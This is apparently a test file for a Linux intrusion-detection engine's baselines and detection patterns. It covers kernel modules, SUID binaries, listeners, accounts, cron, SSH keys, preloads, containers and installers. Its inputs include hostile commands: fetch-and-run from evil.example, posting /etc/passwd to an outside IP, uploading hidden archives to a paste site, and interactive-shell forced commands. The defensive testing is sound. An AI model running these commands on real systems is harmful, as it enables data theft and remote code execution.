import { test } from "tap";
import {
  baselineCatalog,
  cloudDefaultUser,
  cloudSudoRule,
  expectedListener,
  heartbeatPing,
  isPackagedKernelModule,
  knownAutomation,
  knownPreload,
  packagedSuid,
  packagedUnitFile,
  privilegedImage,
  systemAccount,
  tempExecution,
  vendorInstaller,
} from "../../shared/engine/baselines/index.js";
import { knownRootkitModule } from "../../shared/engine/intel/rootkits.js";
import { preloadBaseline } from "../../shared/engine/baselines/preload-libraries.js";
import { gtfobinsName } from "../../shared/engine/intel/gtfobins-suid.js";
import { readRepoFile } from "./helpers.js";

test("kernel modules: Debian's tree, DKMS and vendor modules; rootkits are intel, not baseline", async (t) => {
  t.equal(isPackagedKernelModule("ext4")?.baseline, "kmod:debian-in-tree");
  t.match(isPackagedKernelModule("nf_tables")?.source, /linux-image-6\.1\.0-56-amd64 6\.1\.192-2/);
  t.equal(isPackagedKernelModule("nvme-core")?.baseline, "kmod:debian-in-tree", "'-' is normalised to '_'");
  t.match(isPackagedKernelModule("arm_smmuv3_pmu")?.source, /linux-image-6\.1\.0-56-arm64/, "arm64-only in-tree modules (Graviton, Ampere)");
  t.match(isPackagedKernelModule("aes_neon_bs")?.baseline, "kmod:debian-in-tree");
  t.match(isPackagedKernelModule("clk_raspberrypi")?.source, /modules built into the arm64 kernel image/, "built into Debian's arm64 kernel, loadable on a Pi's");
  t.match(isPackagedKernelModule("nft_counter")?.source, /linux-image-5\.10\.0-32/, "a module older kernels load, built into nf_tables since 5.13");
  t.equal(isPackagedKernelModule("bcm2835_codec")?.baseline, "kmod:raspberrypi");
  t.equal(isPackagedKernelModule("vc_sm_cma")?.baseline, "kmod:raspberrypi");
  t.equal(isPackagedKernelModule("nvidia_uvm")?.baseline, "kmod:nvidia");
  t.equal(isPackagedKernelModule("falcon_lsm_pinned_16110")?.baseline, "kmod:crowdstrike-falcon", "versioned vendor names by prefix");
  t.equal(isPackagedKernelModule("scap")?.baseline, "kmod:falco-sysdig");
  t.equal(isPackagedKernelModule("diamorphine"), undefined);
  t.equal(isPackagedKernelModule(""), undefined);
  t.equal(knownRootkitModule("Diamorphine")?.family, "Diamorphine LKM rootkit");
  t.equal(knownRootkitModule("ext4"), undefined);
});

test("SUID: packaged helpers by canonical path, GTFOBins names", async (t) => {
  t.equal(packagedSuid("/bin/su")?.package, "util-linux", "/bin is /usr/bin on merged-/usr systems");
  t.equal(packagedSuid("/usr/lib/openssh/ssh-keysign")?.baseline, "suid:openssh-client");
  t.match(packagedSuid("/usr/bin/pkexec")?.source, /postinst: set_perms root root 4755/);
  t.equal(packagedSuid("/usr/lib/aarch64-linux-gnu/utempter/utempter")?.package, "libutempter0", "any multiarch triplet");
  t.equal(packagedSuid("/tmp/su"), undefined);
  t.equal(packagedSuid("/usr/libexec/utempter/utempter")?.package, "libutempter", "RHEL's path");
  t.equal(packagedSuid("/opt/netdata/usr/libexec/netdata/plugins.d/apps.plugin")?.package, "netdata", "Netdata's static install");
  t.equal(systemAccount("amavis", "/bin/sh")?.baseline, "accounts:amavis");
  t.equal(vendorInstaller("curl -fsSL https://get.docker.com/rootless | sh")?.baseline, "installer:docker", "Docker's rootless script");
  t.equal(packagedSuid("/usr/bin/bash"), undefined);
  t.equal(gtfobinsName("/usr/bin/python3.11"), "python3");
  t.equal(gtfobinsName("/var/tmp/.bash"), "bash");
  t.equal(gtfobinsName("/usr/bin/passwd"), undefined);
});

test("listeners: the port must be held by its default program", async (t) => {
  t.equal(expectedListener(9100, "node_exporter")?.baseline, "port:node-exporter");
  t.equal(expectedListener(9100, "bash"), undefined);
  t.equal(expectedListener({ port: 10250, protocol: 6, processName: "kubelet" })?.baseline, "port:kubelet");
  t.equal(expectedListener({ port: 10256, processName: "kube-proxy" })?.baseline, "port:kube-proxy");
  t.equal(expectedListener({ port: 10257, processName: "kube-controller" })?.baseline, "port:kube-controller-manager", "comm is 15 characters");
  t.equal(expectedListener({ port: 9092, processName: "java", cmdline: "java kafka.Kafka server.properties" })?.baseline, "port:kafka");
  t.equal(expectedListener({ port: 10905, protocol: 6, processName: "thanos" })?.baseline, "port:thanos", "a second Thanos component beside the sidecar");
  t.equal(expectedListener({ port: 10905, protocol: 6, processName: "python3" }), undefined, "Thanos's ports explain only Thanos");
  t.equal(expectedListener({ port: 8481, protocol: 6, processName: "vmselect-prod" })?.baseline, "port:victoriametrics");
  t.equal(expectedListener({ port: 55000, protocol: 6, processName: "python3", cmdline: "/var/ossec/framework/python/bin/python3 /var/ossec/api/scripts/wazuh_apid.py" })?.baseline, "port:wazuh-osquery", "Wazuh's API under its bundled Python");
  t.equal(expectedListener({ port: 55000, protocol: 6, processName: "python3", cmdline: "python3 -m http.server 55000" }), undefined, "any other python on that port");
  t.equal(expectedListener({ port: 3024, protocol: 6, processName: "teleport" })?.baseline, "port:teleport");
  t.equal(expectedListener({ port: 8052, protocol: 6, processName: "uwsgi", cmdline: "/var/lib/awx/venv/awx/bin/uwsgi /etc/tower/uwsgi.ini" })?.baseline, "port:awx");
  t.equal(expectedListener({ port: 9092, processName: "java", cmdline: "java -jar x.jar" }), undefined, "java alone is not Kafka");
  t.equal(expectedListener({ port: 123, protocol: 6, processName: "chronyd" }), undefined, "protocol matters");
  t.equal(expectedListener({ port: 8472, protocol: 17, processName: "", kernel: true })?.baseline, "port:vxlan-wireguard-kernel");
  t.equal(expectedListener({ port: 4444, protocol: 6, processName: "", kernel: true }), undefined);
  t.match(expectedListener(9100, "node_exporter")?.source, /Default port allocations/);
});

test("accounts: packaged system users with their packaged shell, cloud default users", async (t) => {
  t.equal(systemAccount("postgres", "/bin/bash")?.baseline, "accounts:postgres");
  t.equal(systemAccount("www-data", "/bin/bash"), undefined, "www-data never gets a shell from its package");
  t.equal(systemAccount("spark", "/bin/bash")?.baseline, "accounts:hadoop-ecosystem", "Bigtop's service users su into a login shell");
  t.equal(systemAccount("_chrony")?.baseline, "accounts:systemd");
  t.equal(systemAccount("svc-backup"), undefined);
  t.equal(cloudDefaultUser("ec2-user")?.baseline, "accounts:cloud-default-user");
  t.equal(cloudDefaultUser("postgres"), undefined);
  t.equal(cloudSudoRule("/etc/sudoers.d/90-cloud-init-users", "ubuntu", "ALL=(ALL) NOPASSWD:ALL")?.baseline, "cloud-init:sudoers");
  t.equal(cloudSudoRule("/etc/sudoers.d/90-cloud-init-users", "mallory", "ALL=(ALL) NOPASSWD:ALL"), undefined, "only the cloud default user");
  t.equal(cloudSudoRule("/etc/sudoers.d/google_sudoers", "%google-sudoers", "ALL=(ALL:ALL) NOPASSWD:ALL")?.baseline, "gce:google-sudoers");
});

test("automation: packaged cron, backup tools, pings, cloud-init keys, config-management SSH", async (t) => {
  t.equal(knownAutomation({ kind: "cron", path: "/etc/cron.d/e2scrub_all", command: "root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r" })?.baseline, "cron:packaged:e2fsprogs");
  t.equal(knownAutomation({ kind: "cron", path: "/etc/cron.d/x", command: "root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r" }), undefined, "the packaged line in another file");
  t.equal(knownAutomation({ kind: "cron", path: "/etc/cron.d/backup", command: "root /usr/bin/borg create --stats ::'{hostname}-{now}' /etc /srv" })?.baseline, "cron:borg");
  t.equal(knownAutomation({ kind: "cron", path: "/var/spool/cron/crontabs/root", command: "rsnapshot daily" })?.baseline, "cron:rsnapshot");
  t.equal(knownAutomation({ kind: "cron", path: "/var/spool/cron/crontabs/root", command: "curl http://x/y | sh" }), undefined);
  t.equal(heartbeatPing("/opt/job.sh && curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/abc")?.explanation.baseline, "cron:heartbeat-ping");
  t.equal(heartbeatPing("curl -fsS https://evil.example/a | sh"), undefined);
  const opts = `no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command="echo 'Please login as the user \\"admin\\" rather than the user \\"root\\".';echo;sleep 10;exit 142"`;
  t.equal(knownAutomation({ kind: "ssh-key-options", options: opts })?.baseline, "cloud-init:disable-root-opts");
  t.equal(knownAutomation({ kind: "ssh-key-options", options: 'command="/bin/bash -i"' }), undefined);
  t.equal(knownAutomation({ kind: "ssh-key-comment", comment: "ansible@mgmt-01" })?.baseline, "automation:config-management-key");
  t.equal(knownAutomation({ kind: "ssh-key-comment", comment: "mallory@kali" }), undefined);
  t.equal(knownAutomation({ kind: "ssh-client", cmdline: "ssh -C -o ControlMaster=auto -o ControlPersist=60s -o ControlPath=/home/d/.ansible/cp/ab12 10.0.0.7 /bin/sh -c 'echo ~'" })?.baseline, "automation:ansible-ssh");
  t.equal(knownAutomation({ kind: "ssh-client", cmdline: "ssh root@10.0.0.5" }), undefined);
});

test("preload, units, images, installers, temp layouts", async (t) => {
  t.equal(knownPreload("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2")?.baseline, "preload:jemalloc");
  t.equal(knownPreload("/dev/shm/libjemalloc.so.2"), undefined, "the name outside its package directory");
  t.equal(preloadBaseline("/opt/datadog-packages/datadog-apm-inject/stable/inject/launcher.preload.so")?.id, "preload-libraries:datadog-apm-inject", "Datadog's single-step instrumentation in /etc/ld.so.preload");
  t.equal(preloadBaseline("/tmp/launcher.preload.so"), undefined, "its name elsewhere");
  t.equal(knownPreload("libjemalloc.so.2 /tmp/x.so"), undefined, "every library must be explained");
  t.equal(knownPreload("libjemalloc.so.2")?.baseline, "preload:jemalloc", "a bare name: ld.so finds it in the system directories");
  t.equal(knownPreload("libjemalloc.so.2", "/usr/lib/x86_64-linux-gnu:/usr/local/lib")?.baseline, "preload:jemalloc", "LD_LIBRARY_PATH of system directories only");
  t.equal(knownPreload("libjemalloc.so.2", "/dev/shm/.x"), undefined, "LD_LIBRARY_PATH is searched first: a bare name there is whatever that directory holds");
  t.equal(knownPreload("libjemalloc.so.2", "/usr/lib/../../tmp"), undefined, "a system prefix climbed out of");
  t.equal(knownPreload("libjemalloc.so.2", ":/usr/lib"), undefined, "an empty entry is the working directory");
  t.equal(knownPreload("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", "/tmp")?.baseline, "preload:jemalloc", "a full path is not searched for");
  t.equal(packagedUnitFile("/lib/systemd/system/ssh.service")?.baseline, "systemd:package-unit-dir");
  t.equal(packagedUnitFile("/etc/systemd/system/x.service"), undefined);
  t.equal(privilegedImage("gcr.io/cadvisor/cadvisor:v0.49.1")?.baseline, "container:cadvisor");
  t.equal(privilegedImage("docker:24.0-dind")?.baseline, "container:docker-dind");
  t.equal(privilegedImage("docker:24.0-cli"), undefined);
  t.equal(privilegedImage("alpine:3.19"), undefined);
  t.equal(privilegedImage("registry.k8s.io/kube-proxy:v1.28.10")?.baseline, "container:kube-proxy");
  t.equal(privilegedImage("docker.io/calico/node:v3.27.3")?.baseline, "container:cni-node-agent");
  t.equal(privilegedImage("moby/buildkit:buildx-stable-1")?.baseline, "container:buildkit", "buildx's docker-container builder");
  const digest = "sha256:15970e6d6c768a2505f0c3f5ba3ffd121fa9c3281483067c65dc60af860b110e";
  t.equal(privilegedImage(digest, "/k8s_calico-node_calico-node-x7q2z_kube-system_07390be8-2c1d-4a7e-9f0a-1b2c3d4e5f60_0")?.baseline, "container:cni-node-agent", "an image ID: the kubelet's container name and namespace");
  t.equal(privilegedImage(digest, "/k8s_calico-node_calico-node-x7q2z_default_07390be8-2c1d-4a7e-9f0a-1b2c3d4e5f60_0"), undefined, "the same container name in an application namespace");
  t.equal(privilegedImage(digest, "/k8s_miner_kube-proxy-abc_kube-system_07390be8_0"), undefined, "the container's name counts, not the pod's");
  t.equal(privilegedImage(digest, "/calico-node"), undefined, "a plain Docker name is not a kubelet's");
  t.equal(vendorInstaller("curl -fsSL https://get.docker.com | sh")?.baseline, "installer:docker");
  t.equal(vendorInstaller("curl -fsSL https://get.docker.com.evil.example/x | sh"), undefined);
  t.equal(vendorInstaller("curl -fsSL https://get.pnpm.io/install.sh | sh -")?.baseline, "installer:pnpm");
  t.equal(vendorInstaller("curl -fsSL https://ollama.com/install.sh | sh")?.baseline, "installer:ollama");
  t.equal(vendorInstaller("curl -fsSL https://ollama.com.evil.example/install.sh | sh"), undefined, "a look-alike host");
  t.equal(tempExecution("/tmp/go-build123/b001/exe/main")?.baseline, "tmp-exec:go-run");
  t.equal(tempExecution("/tmp/go-build496553963/b001/billing-api.test")?.baseline, "tmp-exec:go-test", "go test's binary in its work directory");
  t.equal(tempExecution("/tmp/go-build496553963/b001/x.test.sh"), undefined, "not any file that mentions .test");
  t.equal(tempExecution("/tmp/go-build1/b001/sub/evil.test"), undefined, "only directly in the package's directory");
  t.equal(tempExecution("/tmp/.x/main"), undefined);
});

test("every baseline carries a source and is listed in docs/baselines.md", async (t) => {
  const doc = readRepoFile("docs/baselines.md");
  const ids = new Set(baselineCatalog().map((b) => b.id.replace(/^(suid|cron:packaged):.*/, "$1")));
  for (const entry of baselineCatalog()) t.ok(entry.source.length > 10, `${entry.id} has a source`);
  for (const id of ids) t.ok(doc.includes(id), `docs/baselines.md lists ${id}`);
});

test("a key that can only run a plain program, without a terminal or forwarding, is a restricted forced command", async (t) => {
  const { restrictedForcedCommand } = await import("../../shared/engine/detections/ssh-authorized-key.js");
  const borg = 'command="borg serve --append-only --restrict-to-path /srv/backup/web-01,/srv/b",restrict,from="10.0.0.0/16"';
  t.equal(restrictedForcedCommand(borg), "borg serve --append-only --restrict-to-path /srv/backup/web-01,/srv/b");
  t.equal(restrictedForcedCommand('no-pty,no-port-forwarding,no-agent-forwarding,command="/usr/bin/rrsync -ro /srv/data"'), "/usr/bin/rrsync -ro /srv/data");
  t.equal(restrictedForcedCommand('command="borg serve"'), null, "a forced command alone leaves a pty and forwarding");
  t.equal(restrictedForcedCommand('command="borg serve",no-pty'), null, "forwarding still open");
  t.equal(restrictedForcedCommand('command="borg serve",restrict,port-forwarding'), null, "forwarding given back");
  t.equal(restrictedForcedCommand('command="/bin/bash -i",restrict'), null, "a shell");
  t.equal(restrictedForcedCommand('command="python3 -c x",restrict'), null, "an interpreter");
  t.equal(restrictedForcedCommand('command="/tmp/.x/agent",restrict'), null, "a temp-directory program");
  t.equal(restrictedForcedCommand('command="/opt/.cache/agent",restrict'), null, "a hidden path");
  t.equal(restrictedForcedCommand('command="rsync --server; curl x|sh",restrict'), null, "shell syntax");
  t.equal(restrictedForcedCommand('command="tar c $HOME",restrict'), null, "an expansion");
});

test("root's restricted backup key is a note; the same key with a shell, or with a strong signal, is a finding", async (t) => {
  const { getDetection } = await import("../../shared/engine/index.js");
  const { host } = await import("./helpers.js");
  const det = getDetection("ssh-authorized-key");
  if (!det) throw new Error("ssh-authorized-key missing");
  const root = { uid: "0", gid: "0", username: "root", shell: "/bin/bash", directory: "/root" };
  const keyRow = (options: string, comment = "borg@web-fleet") => ({ uid: "0", algorithm: "ssh-ed25519", key: "AAAAC3NzaC1lZDI1NTE5AAAAIBorg0", options, comment, key_file: "/root/.ssh/authorized_keys" });
  const hits = (options: string, comment?: string) => det.evaluate(host({ authorized_keys: [keyRow(options, comment)], users: [root] }));
  const borg = hits('command="borg serve --append-only --restrict-to-path /srv/backup",restrict');
  t.equal(borg.length, 1);
  t.equal(borg[0]?.kept_by, "ssh-key:restricted-forced-command");
  t.match(borg[0]?.summary, /can only run `borg serve --append-only/);
  t.equal(hits('command="/bin/sh -c borg",restrict')[0]?.severity, "high", "a shell behind the forced command");
  t.equal(hits('command="borg serve",restrict', "mallory@kali")[0]?.kept_by, undefined, "an attacker distribution's key is not kept quiet by its options");
});

test("an Exec line's programs: its own, and each command's of a shell's -c script", async (t) => {
  const { execPrograms } = await import("../../shared/engine/detections/suspicious-systemd-unit.js");
  t.same(execPrograms("/usr/bin/node /srv/app.js"), ["/usr/bin/node"]);
  t.same(execPrograms("-/usr/sbin/nginx -g daemon off;"), ["/usr/sbin/nginx"], "systemd's prefixes dropped; nginx's own arguments are not a script");
  t.same(execPrograms(`/bin/sh -c "/usr/local/lib/.netd/netd -c 193.233.48.22:8080"`), ["/bin/sh", "/usr/local/lib/.netd/netd"]);
  t.same(execPrograms(`/bin/bash -lc 'cd /srv && exec /opt/app/run --port 80; nohup /var/lib/x'`), ["/bin/bash", "cd", "/opt/app/run", "/var/lib/x"]);
});

test("modules Debian builds into its kernel are in-tree when another distribution loads them", async (t) => {
  const { isPackagedKernelModule } = await import("../../shared/engine/baselines/index.js");
  for (const name of ["input_leds", "mac_hid", "i2c_core"]) t.equal(isPackagedKernelModule(name)?.baseline, "kmod:mainline-modular-elsewhere", name);
  t.match(isPackagedKernelModule("input-leds")?.source, /modules\.builtin/, "named with a dash, and sourced from the package's list");
  t.equal(isPackagedKernelModule("ipt_logmark"), undefined, "a made-up netfilter name is not");
});

test("curl or wget counts as a transfer only to or from outside the site, and not when its output is thrown away", async (t) => {
  const { OUTSIDE_TRANSFER, commandSignals } = await import("../../shared/engine/detections/patterns.js");
  const outside = (c: string) => OUTSIDE_TRANSFER.test(c);
  t.ok(outside("curl -fsSL https://evil.example/x.sh -o /tmp/x.sh"), "a public name");
  t.ok(outside("wget -q http://203.0.113.7/m"), "a public address");
  t.ok(outside("curl -s -u admin:pw -d @/etc/passwd 198.51.100.9:8080/up"), "a target it cannot read counts as outside");
  t.ok(outside("curl -F file=@/dev/shm/.s/a.tgz https://0x0.st"), "an upload to a paste site");
  t.notOk(outside("curl -sk -o /dev/null https://127.0.0.1/healthz"), "a local health check");
  t.notOk(outside("curl -s -X POST localhost:9090/-/reload"), "a local reload without a scheme");
  t.notOk(outside("cat /tmp/m | curl --data-binary @- http://pushgateway:9091/metrics/job/kafka"), "a push to a service name");
  t.notOk(outside("curl -XDELETE 'http://10.0.3.4:9200/logs-*'"), "a private address");
  t.notOk(outside("curl -s https://ops.internal/ping -o /dev/null"), "an internal domain");
  t.notOk(outside("echo nothing to fetch"));
  t.same(commandSignals("*/5 * * * * curl -s localhost:9100/metrics > /dev/null").map((s) => s.why), [], "no signal at all for a local scrape");
});

test("a temp directory is a signal when something runs from it, is made executable there or hides there", async (t) => {
  const { TEMP_RUN_OR_HIDE } = await import("../../shared/engine/detections/patterns.js");
  const signal = (c: string) => TEMP_RUN_OR_HIDE.test(c);
  t.ok(signal("cd /tmp && /tmp/kinsing"), "run from /tmp");
  t.ok(signal("sh /dev/shm/x.sh"), "a script there run by a shell");
  t.ok(signal("chmod +x /var/tmp/upd && nohup /var/tmp/upd &"));
  t.ok(signal("cp payload /tmp/.X11-cache/a"), "a hidden name there");
  t.notOk(signal("tar czf /tmp/backup-$(date +%F).tgz /etc /srv && scp /tmp/backup-$(date +%F).tgz backup01:/srv/"), "a backup archive moved on");
  t.notOk(signal("restic backup /srv --exclude /tmp/cache"));
  t.notOk(signal("find /tmp -type f -mtime +7 -delete"), "tmp cleaning");
});

test("an allocator preloaded from the program's own vendor prefix is a note; from elsewhere it is not", async (t) => {
  const { bundledAllocatorPreload } = await import("../../shared/engine/baselines/index.js");
  t.equal(bundledAllocatorPreload("/opt/td-agent/lib/libjemalloc.so", "/opt/td-agent/bin/ruby")?.baseline, "preload:bundled-allocator");
  t.equal(bundledAllocatorPreload("/opt/gitlab/embedded/lib/libjemalloc.so.2", "/opt/gitlab/embedded/bin/puma")?.baseline, "preload:bundled-allocator");
  t.equal(bundledAllocatorPreload("/opt/td-agent/lib/libjemalloc.so", "/usr/sbin/sshd"), undefined, "into another program");
  t.equal(bundledAllocatorPreload("/opt/td-agent/lib/libhide.so", "/opt/td-agent/bin/ruby"), undefined, "not an allocator");
  t.equal(bundledAllocatorPreload("/opt/.x/lib/libjemalloc.so", "/opt/.x/bin/x"), undefined, "a hidden prefix");
  t.equal(bundledAllocatorPreload("/tmp/app/lib/libjemalloc.so", "/tmp/app/bin/x"), undefined, "a temp prefix");
  t.equal(bundledAllocatorPreload("/opt/td-agent/lib/libjemalloc.so:/opt/td-agent/lib/libx.so", "/opt/td-agent/bin/ruby"), undefined, "every library must be one");
});
